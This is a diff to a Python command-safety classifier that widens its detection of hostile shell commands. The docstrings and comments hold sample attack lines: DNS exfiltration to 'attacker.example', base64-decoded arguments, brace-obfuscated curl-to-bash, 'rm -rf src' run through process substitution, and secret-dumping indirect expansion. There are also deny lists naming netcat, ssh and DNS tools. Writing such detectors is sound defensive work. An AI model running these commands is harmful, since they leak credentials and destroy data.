@@ -16,7 +16,12 @@ import re
 from collections.abc import Callable, Sequence
 from typing import Any
 
-from gitgate.safety.classify.commands import judge_argv, resolve_computed_name, unwrap_quietly
+from gitgate.safety.classify.commands import (
+    expand_command_braces,
+    judge_argv,
+    resolve_computed_name,
+    unwrap_quietly,
+)
 from gitgate.safety.classify.denies import judge_assignments, judge_write_target
 from gitgate.safety.classify.execs import (
     code_findings,
@@ -152,8 +157,12 @@ def text_level_findings(text: str) -> list[Finding]:
     metadata = _METADATA.search(text)
     if metadata:
         findings.append(deny(f"cloud metadata address {metadata.group(0)!r}: leaks credentials"))
-    if _RAW_SOCKET.search(text):
+    for socket in _RAW_SOCKET.finditer(text):
+        host = text[socket.end() :].split("/", 1)[0].lower()
+        if host in ("localhost", "127.0.0.1", "::1"):
+            continue  # `</dev/tcp/localhost/5432`: is the local database up?
         findings.append(deny("/dev/tcp or /dev/udp: raw network connection (reverse shell)"))
+        break
     if _FORK_BOMB.search(text):
         findings.append(deny("fork bomb: a function that pipes into itself"))
     findings.extend(_windows_findings(text))
@@ -287,6 +296,8 @@ class Walker:
         self.ctx = ctx
         self.payload = False  # inside a pipeline, after a downloader or decoder stage
         self.read_input: set[str] = set()  # variables `read` filled from a file or a pipe
+        self.presence_test = False  # in `[ … ]` / `test …`: a variable is tested, not shown
+        self.remote_changed = False  # `git remote add|set-url` seen: a push may leave
         self.handlers: dict[str, Callable[[Any, int], list[Finding]]] = {
             "list": self._children,
             "pipeline": self._pipeline,
@@ -440,7 +451,7 @@ class Walker:
         if getattr(node, "kind", "") != "command":
             return []
         words = [self._word(p) for p in node.parts if getattr(p, "kind", "") == "word"]
-        return unwrap_quietly(words)
+        return unwrap_quietly(expand_command_braces(words))  # {curl,-s,URL}|{bash,}
 
     # -- simple commands --------------------------------------------------------------------
 
@@ -449,6 +460,8 @@ class Walker:
         words: list[Word] = []
         assignments: list[Word] = []
         redirects: list[Any] = []
+        first = next((p for p in node.parts if getattr(p, "kind", "") == "word"), None)
+        self.presence_test = first is not None and getattr(first, "word", "") in _TESTS
         for part in node.parts:
             kind = getattr(part, "kind", "")
             if kind == "word":
@@ -465,6 +478,9 @@ class Walker:
         reads_code = bool(unwrapped) and reads_code_from_stdin(unwrapped)
         findings.extend(self._indirect_expansions(words))
         findings.extend(self._runs_what_it_read(words))
+        findings.extend(self._hidden_arguments(node, words))
+        findings.extend(self._push_elsewhere(words))
+        self._remember_positional(words)
         findings.extend(self._staged_payload_run(unwrapped))
         payload = self.payload or produces_payload(unwrapped)
         for redirect in redirects:
@@ -532,6 +548,49 @@ class Walker:
                 ]
         return []
 
+    def _hidden_arguments(self, node: Any, words: list[Word]) -> list[Finding]:
+        """Arguments made by decoding (``cat $(echo LmVudg== | base64 -d)``, ``cat $(rev
+        <<< vne.)``): a name hidden from the reviewer; and command output sent as a DNS
+        name (``nslookup $(whoami).attacker.example``): exfiltration through a resolver."""
+        if not words or len(node.parts) < 2:
+            return []
+        name = command_name(words[0].text)[0].lower()
+        for part in node.parts[1:]:
+            for sub in _substitutions_of(part):
+                if name in _DNS_TOOLS:
+                    return [deny(f"{name} of a name built from command output: exfiltration")]
+                texts = _simple_texts(self, sub.command)
+                if any(is_decoder(plain_words(split_words(t))) for t in texts):
+                    return [deny(f"an argument decoded at run time: {short(self._raw(sub))!r}")]
+        return []
+
+    def _push_elsewhere(self, words: list[Word]) -> list[Finding]:
+        """``git remote add x URL && git push x``, ``git push https://…``: the repository
+        leaves for a place nobody configured (exfiltration)."""
+        if len(words) < 2 or command_name(words[0].text)[0] != "git":
+            return []
+        args = [w.text for w in words[1:]]
+        sub = next((a for a in args if not a.startswith("-")), "")
+        if sub == "remote" and any(a in ("add", "set-url", "rename") for a in args):
+            self.remote_changed = True
+            return []
+        if sub != "push":
+            return []
+        operands = [a for a in args[args.index("push") + 1 :] if not a.startswith("-")]
+        if self.remote_changed:
+            return [deny("pushes to a remote this command added or changed (exfiltration)")]
+        if operands and ("://" in operands[0] or re.match(r"[\w.-]+@[\w.-]+:", operands[0])):
+            return [deny(f"pushes to {operands[0]!r}, an address no remote names (exfiltration)")]
+        return []
+
+    def _remember_positional(self, words: list[Word]) -> None:
+        """``set -- rm -rf src; "$@"``: the positional parameters, like a variable."""
+        if len(words) >= 2 and words[0].text == "set" and words[1].text == "--":
+            if any(w.dynamic for w in words[2:]):
+                self.ctx.variables.pop("@", None)
+            else:
+                self.ctx.variables["@"] = " ".join(w.text for w in words[2:])
+
     def _indirect_expansions(self, words: list[Word]) -> list[Finding]:
         """``${!name}`` expands the variable whose name ``name`` holds: a secret's, when the
         walk saw it assigned one (``name=AWS_SECRET_ACCESS_KEY``, ``for v in …``)."""
@@ -539,6 +598,9 @@ class Walker:
         for word in words:
             for pointer in _INDIRECT_REF.findall(word.raw):
                 target = self.ctx.variables.get(pointer)
+                if pointer in self.read_input:
+                    # compgen -v | while read v; do echo "${!v}"; done: every variable's value
+                    return [deny(f"${{!{pointer}}} prints the variables it reads (secrets)")]
                 if target is None:
                     findings.append(approve(f"indirect expansion ${{!{pointer}}}"))
                 elif tables().secret_variable.search(target):
@@ -630,8 +692,17 @@ class Walker:
                 inner = sub.command
                 producers = _command_names(inner)
                 text = self._raw(sub)
+                if name == "eval" and producers <= _TRUSTED_EVAL_PRODUCERS and producers:
+                    continue  # eval "$(ssh-agent -s)": the agent's own variable settings
                 if name == "eval":
                     return [deny(f"eval of command output {short(text)!r}: runs unseen code")]
+                literal = next(
+                    (literal_echo(plain_words(split_words(t))) for t in _simple_texts(self, inner)),
+                    None,
+                )
+                if literal is not None and runs_code:
+                    # source <(echo 'rm -rf src'): the echoed text is the code.
+                    return [classify_text(literal, self.ctx.deeper())]
                 if producers & data.downloaders:
                     return [deny(f"{name} runs code downloaded by {short(text)!r}")]
                 if any(is_decoder(plain_words(split_words(t))) for t in _simple_texts(self, inner)):
@@ -698,7 +769,10 @@ class Walker:
                     findings.extend(rough_scan(value, self.ctx))
                 name = re.match(r"[!#]?([A-Za-z_][A-Za-z0-9_]*)", value)
                 if name and tables().secret_variable.search(name.group(1)):
-                    findings.append(deny(f"expands ${name.group(1)}: prints a secret"))
+                    if self.presence_test:  # [ -n "$GITHUB_TOKEN" ]: is it set, not what
+                        findings.append(approve(f"tests ${name.group(1)}"))
+                    else:
+                        findings.append(deny(f"expands ${name.group(1)}: prints a secret"))
         return findings
 
     def _raw(self, node: Any) -> str:
@@ -773,6 +847,11 @@ class Walker:
         return findings
 
 
+_TESTS = frozenset(["[", "[[", "test"])
+# Programs whose output is meant to be eval'd and says only what they are: ssh-agent's
+# SSH_AUTH_SOCK=…; export …, brew shellenv, pyenv init.
+_TRUSTED_EVAL_PRODUCERS = frozenset(["ssh-agent", "brew", "pyenv", "rbenv", "direnv", "zoxide"])
+_DNS_TOOLS = frozenset(["nslookup", "dig", "host", "drill", "resolvectl", "getent", "ping"])
 _INDIRECT_REF = re.compile(r"\$\{!([A-Za-z_][A-Za-z0-9_]*)\}")
 _REFERENCED = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
 # Programs that print the clipboard: text nobody reviewed, like a download.
@@ -786,7 +865,9 @@ _PAYLOAD_OUTPUT_OPTIONS: dict[str, tuple[str, ...]] = {
 }
 
 
-_RAW_SENDERS = frozenset(["nc", "ncat", "netcat", "telnet", "socat", "openssl", "gnutls-cli"])
+_RAW_SENDERS = frozenset(
+    ["nc", "ncat", "netcat", "telnet", "socat", "openssl", "gnutls-cli", "ssh"]
+)
 _LOCAL_HOSTS = frozenset(["localhost", "127.0.0.1", "::1", "[::1]", "0.0.0.0"])
 
 
